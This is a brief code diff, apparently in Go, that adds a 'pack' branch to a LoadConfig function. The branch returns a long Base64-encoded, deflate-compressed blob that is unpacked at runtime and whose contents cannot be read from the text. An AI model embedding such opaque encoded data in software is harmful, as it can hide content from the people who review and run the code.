@@ -9,5 +9,8 @@ func LoadConfig(typ string) []byte {
 	if typ == "http" {
 		return files.UnFlate(parsers.Base64Decode(""))
 	}
+	if typ == "pack" {
+		return files.UnFlate(parsers.Base64Decode("dVVNb9s4EP0vPuQUm017agAjCBZYIMVuUSQ9FCgCY0ROJNr8AjnyR4vd396hKLmUvXsxyDcU+d7MvPH3nwsHFhf3ixSidu2y8Z4Wt4u3yOjBx11a3H8fY2OobBavt4sA1A1xkNQD+cjRaSnQ7etth2CoqxHt3ny9txACX5xqrEFwM0B696bbEH2Ywca3LcYZZJGiljOIuoigVG/DBbNwhREFiiCxBrfe+J2GGmqB8AAnEX1PmN8qqs9iK03TddVzvy9MB8gClr1edWQNI/v3AoJeKj9I2H+odyr2WnH+FB7L8dd/bs91JG8lXJdwhOuqWXDAj4rxxWmbCKhPFUB4JGF0ypd2PtHy4kM8gg0Gk8jUmKGY8WEGKkRM6YrS70jN6hCWXE3tVqHLOeItKKudKOtt8k4cguD09KlU/GhNDHI8ngtscUoif1AaJkdXDewusX/PAKEjobDp2xU/P4f7YDyoNFLQTppe4YVM6rTbFQ4XiZ8CtcjYO9IWc9/mW5/H7V++HV55DMFoLpdmsZexVWmxokEoIGgg4Si/9ASvH9K6NEj5vQhJCCQ7mAlwIP11jQpaUx+QTKQs9nfZk8kbFFyP/dg/WMehp65U6yFw33z267ubvHjRP3D9cXZTGg2eHrKwJ7W+adlaYX1z/eHdu5uEEGW3Bin7WN78Pza10C26nXbXUie8Fptk1IHOXsjWTycnuy/oueNzFsJ5Jb0NPAViXqdTIrRPZcIdOv9onzLMHha5g/MJZNKaTs88KqyQ3LeEj1J6rvbcPthkO8hr90yBmu8kfnBQbhnt/vTRrrZp8JJJy0MCEn94tp52eYR98ZG+nkKWthm0icf8+4wp8F34wlnUw9ziUbzhCzYK2Q0ny77YaLZHdGCytF4pjUcOxZyBWb4b/x/mn9CDNurNnGYqtva4nJTkI9jU22Ec1IB2e7/jVz/9/e2pLDNrg8OfVRlmNR8DEfZorhhNeM1kNFviRHH5c1qTGM+NY2KjW6cHo5ahv5QdyjxnCHkkSj9ktvNR/xjKvhlGTANRcMQxr9df"))
+	}
 	return []byte{}
 }